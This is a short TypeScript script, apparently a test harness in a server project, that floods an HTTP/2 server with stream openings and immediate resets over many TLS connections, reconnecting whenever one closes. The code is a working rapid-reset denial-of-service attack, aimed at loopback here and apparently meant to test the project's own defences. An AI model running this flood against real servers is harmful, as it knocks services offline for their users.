/**
 * A process that opens HTTP/2 streams and resets them as fast as it can. Arguments: PORT
 * CONNECTIONS ADDRESS. A closed connection is opened again.
 */

import { connect } from 'node:tls'
import {
  errorCodes,
  flags,
  frame,
  frameTypes,
  PREFACE,
  settingsFrame,
  uint32Frame,
} from '../../packages/server/src/rls/transport/http2/frames.ts'
import { LOOPBACK } from '../support/servers/ports.ts'

const [port, connections, localAddress = LOOPBACK] = process.argv.slice(2)

/** GET, https, / and an authority: the shortest valid head. */
const head = Buffer.from([0x82, 0x87, 0x84, 0x01, 1, 0x61])
const STREAMS_AT_ONCE = 500

/** The delay before a refused connection is retried, so that refusals stay measurable. */
const RETRY_MS = 10

function attack(): void {
  const socket = connect({
    ...{ port: Number(port), host: LOOPBACK, localAddress },
    ...{ ALPNProtocols: ['h2'], rejectUnauthorized: false },
  })
  let id = 1
  const send = () => {
    if (socket.destroyed) return
    const frames: Buffer[] = []
    for (let count = 0; count < STREAMS_AT_ONCE; count += 1, id += 2) {
      frames.push(
        frame(frameTypes.headers, flags.endHeaders | flags.endStream, id, head),
        uint32Frame(frameTypes.reset, id, errorCodes.cancel),
      )
    }
    if (socket.write(Buffer.concat(frames))) setImmediate(send)
    else socket.once('drain', send)
  }
  socket.once('secureConnect', () => {
    socket.write(Buffer.concat([PREFACE, settingsFrame([])]))
    send()
  })
  socket.on('error', () => undefined).resume()
  socket.once('close', () => setTimeout(attack, RETRY_MS))
}

for (let count = 0; count < Number(connections); count += 1) attack()
